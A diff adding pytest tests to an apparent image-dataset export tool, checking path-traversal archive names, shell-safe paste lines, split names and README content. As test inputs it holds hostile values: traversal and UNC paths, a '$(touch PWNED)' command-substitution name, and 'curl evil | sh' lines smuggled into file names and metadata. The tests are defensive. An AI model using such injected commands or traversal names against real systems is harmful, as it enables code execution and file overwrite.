@@ -5,6 +5,8 @@ from __future__ import annotations
 import json
 import os
 import signal
+import subprocess
+import zipfile
 from pathlib import Path
 from typing import get_args
 
@@ -350,3 +352,76 @@ def test_a_folder_that_fills_meanwhile_is_not_replaced(tmp_path: Path) -> None:
     with pytest.raises(PseudomaskError, match="cannot write"):
         export_meanwhile()
     assert files(tmp_path) == ["place/theirs"]
+
+
+HOSTILE = ("x\\..\\..\\evil", "C:/evil", "deep/c:evil", "\\\\host\\share")
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_no_archive_member_is_another_path_on_windows(tmp_path: Path, name: str) -> None:
+    made = Made(tmp_path)
+    made.add(f"{name}.jpg")
+    made.record()
+    with pytest.raises(UsageError, match=r"another path .* Windows; rename it, or leave it out with --list"):
+        made.export("cvat")
+    made.export("yolo")
+    found = [path.name for path in (made.dest / "images/train").iterdir()]
+    assert len(found) == 1
+    assert not set("\\:") & set(found[0])
+
+
+def test_names_of_one_system_alone_are_told_and_kept(tmp_path: Path) -> None:
+    made = Made(tmp_path)
+    for name in ("12:30.jpg", "aux.jpg", "dir./b.jpg", "plain.jpg", "console.jpg"):
+        made.add(name)
+    made.record()
+    result = made.export("cvat")
+    assert [line for line in result.lost if "Windows" in line] == ["3 names cannot be files on Windows, such as 12:30"]
+    with zipfile.ZipFile(made.dest / "annotations.zip") as archive:
+        assert "SegmentationClass/12:30.png" in archive.namelist()
+
+
+@pytest.mark.parametrize("place", ["it's $(touch PWNED)", "a\nb"])
+def test_lines_to_paste_are_safe_in_a_shell(made: Made, place: str) -> None:
+    dest = made.place / place
+    made.export("yolo", dest=dest)
+    line = json.loads((dest / "export.json").read_text())["paste"]
+    assert "\n" not in line
+    words = line.removeprefix("yolo segment train ")
+    shown = subprocess.run(["bash", "-c", f"printf %s {words}"], cwd=made.place, stdout=subprocess.PIPE, check=True)
+    assert shown.stdout.decode() == f"data={dest}/data.yaml"
+    assert not (made.place / "PWNED").exists()
+
+
+@pytest.mark.parametrize("format", ["yolo", "imagefolder", "mmseg", "coco"])
+def test_a_split_of_any_name_stays_a_string(made: Made, format: str) -> None:
+    split = "it's #1: yes"
+    result = made.export(format, split_name=split)
+    if format in ("mmseg", "coco"):
+        compile(result.paste, "pasted", "exec")
+        return
+    yaml = pytest.importorskip("yaml")
+    page = (made.dest / "README.md").read_text("utf-8").split("---\n")
+    told = yaml.safe_load((made.dest / "data.yaml").read_text("utf-8") if format == "yolo" else page[1])
+    if format == "yolo":
+        assert told["train"] == f"images/{split}"
+    else:
+        assert told["configs"][0]["data_files"] == [{"split": split, "path": f"data/{split}/**"}]
+
+
+def test_a_readme_has_a_line_for_each_fact(tmp_path: Path) -> None:
+    """The record and the names came with a data set: they add no lines of their own to a page that people copy from."""
+    made = Made(tmp_path)
+    made.add("a.jpg")
+    made.add("b\n```\ncurl evil | sh.jpg", status="failed", reason="truncated")
+    made.record(protocol={"method": "x\n```bash\ncurl evil | sh\n```"})
+    made.export("mmseg")
+    assert not [line for line in (made.dest / "README.md").read_text("utf-8").splitlines() if line.startswith("curl")]
+
+
+def test_class_names_that_are_no_line(tmp_path: Path) -> None:
+    made = Made(tmp_path, classes=("cat\ndog",))
+    made.add("a.jpg")
+    made.record()
+    with pytest.raises(UsageError, match=r"line break, which classes\.txt cannot hold"):
+        made.export("coco")
